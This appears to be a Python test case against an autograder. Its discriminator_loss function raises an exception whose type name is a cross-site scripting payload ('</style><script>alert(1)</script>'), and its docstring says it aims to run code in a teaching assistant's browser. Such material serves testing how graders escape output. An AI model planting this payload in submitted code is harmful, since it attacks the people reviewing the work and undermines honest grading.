"""Raises an exception whose type is named like the end of the page's style and a script.

Gain: code in the browser of a teaching assistant.
Hits: discriminator_loss
Ends: failed, exception: </style>
"""


def discriminator_loss(logits_real, logits_fake):
    raise type("</style><script>alert(1)</script>", (Exception,), {})()
